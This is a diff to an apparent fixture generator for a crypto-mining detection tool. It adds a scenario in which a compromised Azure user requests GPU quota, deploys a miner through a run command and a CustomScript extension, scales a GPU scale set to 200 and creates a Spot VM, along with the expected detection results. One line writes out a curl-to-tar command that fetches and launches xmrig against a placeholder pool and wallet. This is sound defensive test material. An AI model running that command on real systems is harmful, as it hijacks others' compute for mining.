@@ -13,7 +13,7 @@ script and re-run it:  python3 scripts/gen_fixtures.py
 fixtures instead: it lists every file that drifted and exits 1 (scripts/test runs it).
 All GUIDs are fictional; IPs are documentation ranges (RFC 5737) plus one foreign range.
 Three scenario shapes (rest-array, sdk-jsonl, la-csv) are written gzipped (mtime 0) to keep the
-fixtures under 2 MB; fixtures/README.md documents every folder and the sidecar schema.
+fixtures under 2.6 MB; fixtures/README.md documents every folder and the sidecar schema.
 """
 
 import base64
@@ -264,6 +264,7 @@ FRIENDLY = {
     "microsoft.containerinstance/containergroups/delete": "Delete Container Group",
     "microsoft.storage/storageaccounts/write": "Create/Update Storage Account",
     "microsoft.web/serverfarms/write": "Create or Update App Service Plan",
+    "microsoft.compute/virtualmachines/runcommand/action": "Run Command on Virtual Machine",
 }
 
 HTTP_CODES = {"OK": 200, "Created": 201, "Accepted": 202, "NoContent": 204, "Conflict": 409}
@@ -1322,16 +1323,17 @@ def write_sdk(out):
 def write_la_query(out):
     """Query API results, one file per month, rows in time order. September rows have the
     *_d columns null; October rows have Authorization_d and Claims_d as objects."""
-    files = []
-    for name, month, dynamic in (("azureactivity-2026-09.json", 9, False),
-                                 ("azureactivity-2026-10.json", 10, True)):
+    files, written = [], 0
+    for month in sorted({e["time"].month for e in EVENTS}):
+        name, dynamic = f"azureactivity-2026-{month:02d}.json", month >= 10
         evs = chronological([e for e in EVENTS if e["time"].month == month])
+        written += len(evs)
         doc = {"tables": [{"name": "PrimaryResult",
                            "columns": [{"name": c, "type": t} for c, t in LA_QUERY_COLUMNS],
                            "rows": [la_query_row(e, dynamic) for e in evs]}]}
         write(out / name, cjson(doc) + "\n")
         files.append(name)
-    return files, len(EVENTS)
+    return files, written
 
 
 def csv_text(header, rows):
@@ -1379,6 +1381,149 @@ def write_partner_center(out, recs):
 # --------------------------------------------------------------------------------------------
 # expected.json
 # --------------------------------------------------------------------------------------------
+
+
+# --------------------------------------------------------------------------------------------
+# The estate scenario: an intrusion on resources created before the logs
+# --------------------------------------------------------------------------------------------
+
+ESTATE_DIR = FIXTURES / "scenarios" / "estate"
+IP_AUTOMATION = "192.0.2.80"
+SP_PATCH = Who("sp-patch", "sp", oid=gid("oid", "sp-nightly-patching"),
+               appid=gid("appid", "fab-nightly-patching"), appidacr="1", ip=IP_AUTOMATION,
+               role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
+               ra_id=gid("role-assignment", "patch-contrib"))
+U_LENA = Who("u-lena", "user", upn=f"lena.novak@{CUSTOMER_DOMAIN}", given="Lena", surname="Novak",
+             oid=gid("oid", "lena"), appid=AZURE_CLI_APP, appidacr="0", amr="pwd",
+             ip=IP_ATTACKER_USER, role_def=CONTRIBUTOR, ra_scope=f"/subscriptions/{S1}",
+             ra_id=gid("role-assignment", "lena-contrib"))
+
+
+def write_estate_story():
+    """A render farm created long before the 90 days of logs (nothing of its creation is in
+    them): three GPU VMs and a scale set (capacity 2) that a patching service principal runs
+    commands on and tags every night. A compromised user (password only, the foreign address)
+    requests GPU quota, runs a miner through a run command on render-02, installs one through a
+    new CustomScript extension on render-03, scales the set from 2 to 200 and creates one new
+    Spot GPU VM. Only the extension and the new VM are creations; the rest existed before the
+    logs. Returns the expectations (expected.json)."""
+    rg = "rg-render-prod"
+    vms = {n: res_id(S1, rg, f"Microsoft.Compute/virtualMachines/{n}")
+           for n in ("render-01", "render-02", "render-03")}
+    vmss = res_id(S1, rg, "Microsoft.Compute/virtualMachineScaleSets/vmss-render")
+    run_op = "Microsoft.Compute/virtualMachines/runCommand/action"
+    vmss_op = "Microsoft.Compute/virtualMachineScaleSets/write"
+    patch_body = {"commandId": "RunShellScript",
+                  "script": ["apt-get update && apt-get -y -q upgrade && needrestart -r a"]}
+    first_seen = {}
+    for day in range(14, 19):  # five nights, before and after the intrusion (on the 16th)
+        for i, (name, rid) in enumerate(sorted(vms.items())):
+            t = f"2026-11-{day:02d}T02:{i * 7 + 3:02d}:1{i}.{100 + day * 7:03d}"
+            o = operation(f"patch-{name}-{day}", SP_PATCH, rid, run_op, t,
+                          ASYNC_ACCEPTED(410 + i, 61_000 + day * 100), req=patch_body,
+                          method="POST")
+            first_seen.setdefault(rid, o["start"])
+        # The nightly tag PATCH: its 200 response carries the whole model, the capacity with it
+        # (2 until the intrusion scales the set to 200 on the 16th at 22:20).
+        t = f"2026-11-{day:02d}T02:30:05.{200 + day:03d}"
+        capacity = 2 if day <= 16 else 200
+        o = operation(f"tag-vmss-{day}", SP_PATCH, vmss, vmss_op, t, SYNC_OK(1_870 + day),
+                      req={"tags": {"patched": f"2026-11-{day:02d}"}}, method="PATCH",
+                      resp={"name": "vmss-render", "id": vmss,
+                            "type": "Microsoft.Compute/virtualMachineScaleSets",
+                            "location": "westeurope", "tags": {"patched": f"2026-11-{day:02d}"},
+                            "sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard",
+                                    "capacity": capacity},
+                            "properties": {"provisioningState": "Succeeded"}})
+        first_seen.setdefault(vmss, o["start"])
+    # The intrusion, 2026-11-16 evening.
+    quota = operation("estate-quota", U_LENA,
+                      f"/subscriptions/{S1}/providers/Microsoft.Capacity/resourceProviders/"
+                      f"Microsoft.Compute/locations/westeurope/serviceLimits/standardNVADSA10v5Family",
+                      "Microsoft.Capacity/resourceProviders/locations/serviceLimits/write",
+                      "2026-11-16T21:40:12.311", ASYNC_ACCEPTED(905, 38_114),
+                      req={"properties": {"limit": 720, "name": {"value": "standardNVADSA10v5Family"},
+                                          "resourceType": "dedicated"}})
+    miner = (f"curl -fsSL {MINER_TGZ} | tar xz -C /var/tmp && /var/tmp/xmrig -o {POOL_A} "
+             f"-u {WALLET} -k --donate-level 1 -B")
+    run = operation("estate-run", U_LENA, vms["render-02"], run_op, "2026-11-16T22:05:41.918",
+                    ASYNC_ACCEPTED(377, 95_002),
+                    req={"commandId": "RunShellScript", "script": [miner]}, method="POST")
+    ext_rid = vms["render-03"] + "/extensions/gpu-tuning"
+    ext_req = ext_request("westeurope", "Microsoft.Azure.Extensions", "CustomScript", "2.1",
+                          {"commandToExecute": miner})
+    ext = operation("estate-ext", U_LENA, ext_rid,
+                    "Microsoft.Compute/virtualMachines/extensions/write",
+                    "2026-11-16T22:12:07.440", ASYNC_CREATE(1_204, 88_310), req=ext_req,
+                    resp=ext_response(ext_rid, ext_req))
+    scale = operation("estate-scale", U_LENA, vmss, vmss_op, "2026-11-16T22:20:55.063",
+                      SYNC_OK(2_411),
+                      req={"sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard",
+                                   "capacity": 200}}, method="PATCH")
+    nic = res_id(S1, rg, "Microsoft.Network/networkInterfaces/render-04-nic")
+    vm4 = res_id(S1, rg, "Microsoft.Compute/virtualMachines/render-04")
+    t4 = at("2026-11-17T00:14:33.702")
+    vm4_req = vm_request("westeurope", "Standard_NV36ads_A10_v5", nic, image=IMG_UBUNTU,
+                         priority="Spot")
+    new_vm = operation("estate-vm", U_LENA, vm4, "Microsoft.Compute/virtualMachines/write", t4,
+                       ASYNC_CREATE(1_650, 141_200), req=vm4_req,
+                       resp=vm_response(vm4, vm4_req, plus_ms(t4, 1_600)))
+
+    def existing(rid, severity, act_op, **more):
+        sub, rgn, _, rtype, name = rid_info(rid)
+        return {"resource_id": rid.lower(), "resource_type": rtype.lower(), "name": name,
+                "status": "pre-existing", "pre_existing": True, "severity": severity,
+                "created_at": None, "created_by": None, "creation_evidence": None,
+                "first_seen": rfc_us(first_seen[rid]), "actor": U_LENA.expected(),
+                "act": act_op["op"].lower(), "acted_at": rfc_us(act_op["start"]),
+                "contain": "stop, never delete", **more}
+
+    def created(op, severity, evidence, **more):
+        sub, rgn, _, rtype, name = rid_info(op["rid"])
+        return {"resource_id": op["rid"].lower(), "resource_type": rtype.lower(), "name": name,
+                "status": "created", "pre_existing": False, "severity": severity,
+                "created_at": rfc_us(op["start"]), "created_by": U_LENA.expected(),
+                "creation_evidence": evidence, "actor": None, **more}
+
+    return {
+        "schema_version": 1,
+        "generated_by": "scripts/gen_fixtures.py (do not hand-edit)",
+        "scenario": "estate",
+        "summary": write_estate_story.__doc__.split("Returns")[0].strip().replace("\n    ", " "),
+        "resources": [
+            existing(vms["render-02"], "high", run),
+            existing(vms["render-03"], "high", ext),
+            created(ext, "high", "answered 201 Created"),
+            existing(vmss, "high", scale,
+                     size_changes={"capacity": {"before": "2", "after": "200",
+                                                "by": U_LENA.upn, "at": rfc_us(scale["start"])}},
+                     details={"capacity": "200"}),
+            created(new_vm, "high", "answered 201 Created"),
+        ],
+        # Routine automation only: never reported above low, never an actor.
+        "routine": [{"resource_id": vms["render-01"].lower(), "principal": SP_PATCH.appid}],
+        "preparation": [{"operation": quota["op"].lower(), "resource_id": quota["rid"].lower(),
+                         "by": U_LENA.upn}],
+    }
+
+
+def write_estate(writers):
+    """Renders the estate story in every activity-log shape under scenarios/estate/."""
+    global EVENTS, OPS
+    saved = EVENTS, OPS
+    EVENTS, OPS = [], {}
+    try:
+        expected = write_estate_story()
+        shapes = {}
+        for folder, fn, kind in writers:
+            files, n = fn(ESTATE_DIR / folder)
+            assert n == len(EVENTS), folder
+            shapes[folder] = {"source_kind": kind, "files": files, "activity_records": n}
+        expected["shapes"] = shapes
+        write(ESTATE_DIR / "expected.json",
+              json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
+    finally:
+        EVENTS, OPS = saved
 
 
 def expected_resource(rid_lower, ann, ra_op):
@@ -2325,7 +2470,7 @@ ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 plus one foreign address (1
 One crypto-mining incident (tenant Fabrikam Robotics, CSP partner Northwind) rendered in every
 input shape. Each subfolder holds the same activity-log facts exactly once (files partition the
 records; nothing is duplicated inside a folder), so ingesting one folder reproduces the story.
-`rest-array/`, `sdk-jsonl/` and `la-csv/` are gzipped to keep all fixtures under 2 MB (and to
+`rest-array/`, `sdk-jsonl/` and `la-csv/` are gzipped to keep all fixtures under 2.6 MB (and to
 exercise the gzip input path); plain-text samples of those formats are `rest-pages/`,
 `ingest/sdk-snake-case.jsonl` and `ingest/la-csv-us-locale.csv`.
 Inside an export blob records are in arrival order, not time order (as in real blobs).
@@ -2348,6 +2493,19 @@ registrations, quota requests), `subscriptions[]` (from Partner Center create_or
 `partner_center[]`, `principals`, record counts and `shapes{}` (files and record counts per
 folder). Its `conventions` object states how each field is derived; every fact is derivable
 from the logs alone.
+
+## scenarios/estate/
+
+An intrusion on resources created before the logs begin (the common real case: activity logs
+keep 90 days): a render farm's three GPU VMs and scale set (capacity 2) get nightly run commands
+and tag updates from a patching service principal, on five nights around the intrusion. A
+compromised user requests GPU quota, runs a miner through a run command on render-02, installs one
+through a new CustomScript extension on render-03, scales the set from 2 to 200 and creates one
+new Spot GPU VM. Rendered in the same seven activity-log shapes as `intrusion/` (same folder
+names). `expected.json` lists each resource's status (`pre-existing` with `first_seen`, actor,
+act and acted_at; or `created` with its creator and creation evidence), severity, the scale
+set's `size_changes.capacity` (2 -> 200, by whom, when), the routine automation that must never
+be named, and the quota request that is the user's preparation.
 
 ## ingest/
 
@@ -2438,7 +2596,7 @@ def validate():
 
 
 def generate(report=True):
-    for d in (SCENARIO_DIR, INGEST_DIR):
+    for d in (SCENARIO_DIR, ESTATE_DIR, INGEST_DIR):
         if d.exists():
             shutil.rmtree(d)
     ra_op = write_story()
@@ -2462,6 +2620,7 @@ def generate(report=True):
                                 "compression": "none", "activity_records": 0, "partner_records": n}
     write(SCENARIO_DIR / "expected.json",
           json.dumps(build_expected(ra_op, recs, shapes), indent=2, ensure_ascii=False) + "\n")
+    write_estate(writers)
     write_ingest()
     write(FIXTURES / "README.md", README)
     validate()
@@ -2476,14 +2635,14 @@ def generate(report=True):
     for k in sorted(per):
         print(f"{per[k]:>9}  {k}")
     print(f"{total:>9}  total bytes in {len(WRITTEN)} files; {len(EVENTS)} activity records")
-    if total > 2_000_000:
-        sys.exit("fixtures exceed the 2 MB budget")
+    if total > 2_600_000:
+        sys.exit("fixtures exceed the 2.6 MB budget")
 
 
 def files_under(root):
     """The generated files below root (the folders this script owns), as relative paths."""
     out = set()
-    for sub in ("scenarios/intrusion", "ingest"):
+    for sub in ("scenarios/intrusion", "scenarios/estate", "ingest"):
         base = root / sub
         if base.is_dir():
             out.update(p.relative_to(root).as_posix() for p in base.rglob("*") if p.is_file())
@@ -2495,11 +2654,12 @@ def files_under(root):
 def check():
     """Regenerates into a temporary directory; exit 1 listing the files that differ from
     fixtures/ (missing, extra or different bytes)."""
-    global FIXTURES, SCENARIO_DIR, INGEST_DIR
+    global FIXTURES, SCENARIO_DIR, ESTATE_DIR, INGEST_DIR
     committed = FIXTURES
     with tempfile.TemporaryDirectory(prefix="minetrace-fixtures-") as tmp:
         FIXTURES = Path(tmp)
         SCENARIO_DIR = FIXTURES / "scenarios" / "intrusion"
+        ESTATE_DIR = FIXTURES / "scenarios" / "estate"
         INGEST_DIR = FIXTURES / "ingest"
         generate(report=False)
         fresh, have = files_under(FIXTURES), files_under(committed)
